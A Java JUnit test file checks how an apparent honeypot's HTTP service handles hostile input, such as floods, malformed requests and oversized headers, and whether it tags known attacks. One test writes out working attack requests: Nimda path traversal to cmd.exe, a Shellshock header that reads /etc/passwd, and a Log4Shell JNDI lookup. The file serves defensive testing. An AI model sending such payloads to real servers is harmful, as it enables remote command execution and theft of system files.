package dev.mirage.service.http;

import static dev.mirage.service.http.Raw.bytes;
import static dev.mirage.service.http.Raw.exchange;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.mirage.core.Services;
import dev.mirage.store.SessionRow;
import dev.mirage.testing.Sensor;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** Hostile input: every case ends bounded and clean, fully recorded, with no exception out of a session. */
class HttpHostileTest {
    @RegisterExtension
    final Sensor sensor = Sensor.with("http").services(new Services(Map.of("http", HttpService::new)))
            .set("limits.idle", "5s");

    private final ByteArrayOutputStream stderr = new ByteArrayOutputStream();
    private PrintStream oldErr;

    @BeforeEach
    void captureStderr() {
        oldErr = System.err;
        System.setErr(new PrintStream(stderr, true, StandardCharsets.UTF_8));
    }

    @AfterEach
    void noSessionErrors() {
        System.setErr(oldErr);
        assertThat(stderr.toString(StandardCharsets.UTF_8)).doesNotContain("session ");
    }

    private int port() {
        return sensor.port("http");
    }

    private List<JsonNode> requests(SessionRow row) throws Exception {
        return Raw.events(sensor.events(row.id()), "http.request");
    }

    @Test
    void aOneMebibyteRequestLineIs414ThenClose() throws Exception {
        String response;
        try (Socket s = new Socket("127.0.0.1", port())) {
            s.setSoTimeout(10_000);
            Thread writer = Thread.ofVirtual().start(() -> {
                try {
                    OutputStream out = s.getOutputStream();
                    out.write(bytes("GET /" + "A".repeat(1024 * 1024) + " HTTP/1.1\r\nHost: www\r\n\r\n"));
                } catch (java.io.IOException closed) {
                    // The server closes while we still write; that is the point.
                }
            });
            response = Raw.readAll(s.getInputStream());
            writer.join(10_000);
        }
        assertThat(response).startsWith("HTTP/1.1 414 Request-URI Too Large\r\n").contains("Connection: close\r\n")
                .contains("The requested URL's length exceeds the capacity\nlimit for this server.<P>\n");
        SessionRow row = sensor.awaitSessions(1).get(0);
        assertThat(row.reason()).isEqualTo("max-line");
        JsonNode e = requests(row).get(0);
        assertThat(e.at("/http/response/status_code").asInt()).isEqualTo(414);
        assertThat(e.at("/url/original").asText()).startsWith("/AAAA").hasSizeLessThanOrEqualTo(4096);
    }

    @Test
    void binaryGarbageIs400() throws Exception {
        byte[] garbage = {0x16, 0x03, 0x01, 0x02, 0x00, ' ', (byte) 0xff, (byte) 0xfe, 0x7f, ' ', 0x1b, '[', '2', 'J',
            '\r', '\n', '\r', '\n'};
        String r = exchange(port(), garbage);
        assertThat(r).startsWith("HTTP/1.1 400 Bad Request\r\n").contains("Connection: close\r\n");
        assertThat(requests(sensor.awaitSessions(1).get(0)).get(0).at("/http/response/status_code").asInt())
                .isEqualTo(400);
    }

    @Test
    void randomGarbageNeverBreaksASession() throws Exception {
        Random random = new Random(42);
        for (int i = 0; i < 40; i++) {
            byte[] b = new byte[1 + random.nextInt(600)];
            random.nextBytes(b);
            try (Socket s = new Socket("127.0.0.1", port())) {
                s.setSoTimeout(10_000);
                s.getOutputStream().write(b);
                s.shutdownOutput();
                Raw.readAll(s.getInputStream());
            }
        }
        List<SessionRow> rows = sensor.awaitSessions(40);
        assertThat(rows).hasSize(40).allSatisfy(r -> assertThat(r.reason()).isNotEqualTo("error"));
    }

    @Test
    void nulBytesAre400AndRecorded() throws Exception {
        String r = exchange(port(), "GET /a\0b HTTP/1.0\r\nX-Nul: x\0y\r\n\r\n");
        assertThat(r).startsWith("HTTP/1.1 400 Bad Request\r\n");
        String r2 = exchange(port(), "GET /%00.html HTTP/1.0\r\n\r\n");
        assertThat(r2).startsWith("HTTP/1.1 404 Not Found\r\n");
        List<SessionRow> rows = sensor.awaitSessions(2);
        assertThat(requests(rows.get(0)).get(0).at("/url/original").asText()).isEqualTo("/a\0b");
    }

    @Test
    void aHalfRequestThenDisconnectIsRecordedUnanswered() throws Exception {
        try (Socket s = new Socket("127.0.0.1", port())) {
            s.getOutputStream().write(bytes("POST /login.php HTTP/1.1\r\nHost: www\r\nContent-Length: 100\r\n\r\nuser=adm"));
            s.shutdownOutput();
            assertThat(Raw.readAll(s.getInputStream())).isEmpty();
        }
        SessionRow row = sensor.awaitSessions(1).get(0);
        JsonNode e = requests(row).get(0);
        assertThat(e.at("/http/response/status_code").asInt()).isZero();
        assertThat(e.at("/url/original").asText()).isEqualTo("/login.php");
        assertThat(e.at("/http/request/body/content").asText()).isEqualTo("user=adm");

        try (Socket s = new Socket("127.0.0.1", port())) {
            s.getOutputStream().write(bytes("GET /half"));
        }
        SessionRow second = sensor.awaitSessions(2).get(1);
        assertThat(requests(second).get(0).at("/url/original").asText()).isEqualTo("/half");
    }

    @Test
    void tenThousandPipelinedRequestsAreCappedPerConnection() throws Exception {
        String one = "GET / HTTP/1.1\r\nHost: www\r\n\r\n";
        String response;
        try (Socket s = new Socket("127.0.0.1", port())) {
            s.setSoTimeout(10_000);
            Thread writer = Thread.ofVirtual().start(() -> {
                try {
                    s.getOutputStream().write(bytes(one.repeat(10_000)));
                    s.shutdownOutput();
                } catch (java.io.IOException closed) {
                    // Closed past the cap.
                }
            });
            response = Raw.readAll(s.getInputStream());
            writer.join(10_000);
        }
        int answered = response.split("HTTP/1\\.1 200 OK\r\n", -1).length - 1;
        assertThat(answered).isEqualTo(101);
        assertThat(response).contains("Connection: close\r\n");
        SessionRow row = sensor.awaitSessions(1).get(0);
        assertThat(requests(row)).hasSize(101);
    }

    @Test
    void aSlowSenderIsServed() throws Exception {
        try (Socket s = new Socket("127.0.0.1", port())) {
            s.setSoTimeout(10_000);
            OutputStream out = s.getOutputStream();
            out.write(bytes("GET / HTTP/1.0\r"));
            for (char c : new char[] {'\n', '\r', '\n'}) {
                Thread.sleep(1000);
                out.write(c);
                out.flush();
            }
            assertThat(Raw.readAll(s.getInputStream())).startsWith("HTTP/1.1 200 OK\r\n");
        }
        assertThat(requests(sensor.awaitSessions(1).get(0))).hasSize(1);
    }

    @Test
    void tooManyHeadersIs400() throws Exception {
        StringBuilder b = new StringBuilder("GET / HTTP/1.0\r\n");
        for (int i = 0; i < 150; i++) {
            b.append("X-H").append(i).append(": v\r\n");
        }
        String r = exchange(port(), b.append("\r\n").toString());
        assertThat(r).startsWith("HTTP/1.1 400 Bad Request\r\n")
                .contains("The number of request header fields exceeds this server's limit.<P>\n");
    }

    @Test
    void anOverlongHeaderIs400ThenClose() throws Exception {
        String r = exchange(port(), "GET / HTTP/1.0\r\nX-Long: " + "B".repeat(10_000) + "\r\n\r\n");
        assertThat(r).startsWith("HTTP/1.1 400 Bad Request\r\n")
                .contains("Size of a request header field exceeds server limit.<P>\n<PRE>\nX-Long: BBB");
        assertThat(sensor.awaitSessions(1).get(0).reason()).isEqualTo("max-line");
    }

    @Test
    void aBodyPastBodyMaxIsCappedAndRecorded() throws Exception {
        String big = "x".repeat(70 * 1024);
        String r = exchange(port(), "POST /upload HTTP/1.0\r\nContent-Length: " + big.length() + "\r\n\r\n" + big);
        assertThat(r).startsWith("HTTP/1.1 404 Not Found\r\n");
        JsonNode e = requests(sensor.awaitSessions(1).get(0)).get(0);
        assertThat(e.at("/http/request/body/bytes").asInt()).isEqualTo(64 * 1024);
        assertThat(e.at("/mirage/http/body-truncated").asBoolean()).isTrue();
    }

    @Test
    void attacksAreTaggedOnTheRecordedEvent() throws Exception {
        exchange(port(), "GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n");
        exchange(port(), "GET /cgi-bin/status HTTP/1.0\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd\r\n\r\n");
        exchange(port(), "GET /?q=${${lower:j}ndi:ldap://x/a} HTTP/1.0\r\n\r\n");
        List<String[]> events = sensor.allEvents().stream().filter(e -> e[0].equals("http.request")).toList();
        assertThat(events).hasSize(3);
        assertThat(Raw.JSON.readTree(events.get(0)[1]).at("/mirage/tags").toString()).contains("nimda", "path-traversal");
        assertThat(Raw.JSON.readTree(events.get(1)[1]).at("/mirage/tags").toString()).contains("shellshock");
        assertThat(Raw.JSON.readTree(events.get(2)[1]).at("/mirage/tags").toString()).contains("jndi");
    }
}
